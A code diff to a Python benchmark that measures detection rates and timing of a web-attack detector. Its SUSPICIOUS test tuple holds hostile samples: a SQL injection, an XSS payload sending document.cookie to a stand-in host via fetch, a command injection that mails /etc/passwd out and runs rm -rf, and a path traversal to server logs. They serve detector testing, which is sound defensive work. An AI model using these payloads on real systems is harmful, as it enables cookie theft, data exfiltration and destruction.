@@ -2,17 +2,20 @@
 
     python benchmarks/detection.py [--data PATH] [--misses]
 
-PATH is a CSV with the columns payload and attack_type (norm, sqli, xss, path-traversal, cmdi). Nothing of the detection
-is learned from data, so there is no fold to leave out: every rate is that of the same fixed functions.
+PATH is a CSV with the columns payload and attack_type (norm, sqli, xss, path-traversal, cmdi). Nothing of
+the detection is learned from data, so there is no fold to leave out: every rate is that of the same fixed
+functions.
 """
 
 from __future__ import annotations
 
 import argparse
 import csv
+import time
 import timeit
 from collections import Counter
 from collections.abc import Iterator
+from functools import partial
 from pathlib import Path
 
 from metlo_otel.analysis.attacks import inspect
@@ -32,17 +35,19 @@ ORDINARY = (
     "O'Brien & Sons (Dublin) 2024-5",
 )
 SUSPICIOUS = (
-    "1' AND 7756=(SELECT COUNT(*) FROM information_schema.tables AS t1, sysusers AS t2) AND 'foju'='foju' -- x",
-    '"><img src=x onerror="fetch(`https://collector.example/?c=${document.cookie}`)"><b title="harmless text">',
-    "Dear team; the meeting (see 'agenda' & notes) is at 10:30 = half past ten, or later; \"bring\" <your> laptop",
-    "127.0.0.1; cat /etc/passwd | mail -s 'found it' somebody@example.com && rm -rf /tmp/traces_of_what_i_did_",
-    "/static/../../../../../../../../../../../../../../../../../../../../../../../../var/log/apache2/access.lo",
+    "1' AND 7756=(SELECT COUNT(*) FROM information_schema.tables AS t1, sysusers AS t2) AND 'fo'='fo' -- x",
+    '"><img src=x onerror="fetch(`https://collector.example/?c=${document.cookie}`)"><b title="some text">',
+    "Dear team; the meeting (see 'agenda' & notes) is at 10:30 = half past ten; \"bring\" <your> laptop",
+    "127.0.0.1; cat /etc/passwd | mail -s 'found it' somebody@example.com && rm -rf /tmp/traces_of_what_i_",
+    "/static/../../../../../../../../../../../../../../../../../../../../../../../var/log/apache2/access.log",
 )
 
 
 def main() -> None:
     """Print the rates (with data) and the times."""
-    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser = argparse.ArgumentParser(
+        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
+    )
     parser.add_argument("--data", type=Path)
     parser.add_argument("--misses", action="store_true", help="print what was missed or mistaken")
     options = parser.parse_args()
@@ -75,10 +80,10 @@ def rates(data: Path, misses: bool) -> None:
 
 
 def times(title: str, values: tuple[str, ...]) -> None:
-    """Microseconds for each value, the best of five rounds."""
+    """CPU microseconds for each value, the best of five rounds."""
     print(f"{title}:")
     for value in values:
-        rounds = timeit.repeat(lambda value=value: inspect(value), number=2000, repeat=5)
+        rounds = timeit.repeat(partial(inspect, value), timer=time.process_time, number=2000, repeat=5)
         print(f"  {min(rounds) / 2000 * 1e6:6.1f} µs  {value[:70]!r}")
 
 
